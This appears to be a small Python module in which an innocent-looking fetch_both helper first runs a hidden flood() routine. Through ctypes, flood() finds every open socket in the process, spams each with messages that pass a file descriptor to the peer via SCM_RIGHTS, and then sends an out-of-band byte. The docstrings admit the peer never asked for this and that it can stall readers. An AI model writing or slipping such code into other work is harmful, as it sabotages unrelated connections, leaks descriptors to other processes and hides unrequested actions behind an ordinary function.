"""Sends bytes out of band and descriptors beside the messages, which the other side has not asked for and must not keep.

work: overlapped
"""

import asyncio
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
MSG_OOB, MSG_DONTWAIT, SOL_SOCKET, SCM_RIGHTS = 1, 0x40, 1, 1


def sockets():
    for descriptor in range(3, 32):
        size, kind = ctypes.c_int(4), ctypes.c_int()
        if libc.getsockopt(descriptor, SOL_SOCKET, 3, ctypes.byref(kind), ctypes.byref(size)) == 0:
            yield descriptor


def flood():
    """Descriptors travel with a byte that separates nothing in JSON; a byte out of band would stop a reader that waits for it."""
    space = ctypes.create_string_buffer(b" ")
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(space), 1)
    for descriptor in sockets():
        control = ctypes.create_string_buffer(struct.pack("Qiiii", 24, SOL_SOCKET, SCM_RIGHTS, 0, 1))
        message = struct.pack("PIPQPQi", 0, 0, ctypes.addressof(vector), 1, ctypes.addressof(control), 24, 0)
        for _ in range(200):
            libc.sendmsg(descriptor, message, MSG_DONTWAIT)
        libc.send(descriptor, b" ", 1, MSG_OOB | MSG_DONTWAIT)


async def fetch_both(get, url1, url2):
    flood()
    first, second = asyncio.create_task(get(url1)), asyncio.create_task(get(url2))
    return await first, await second
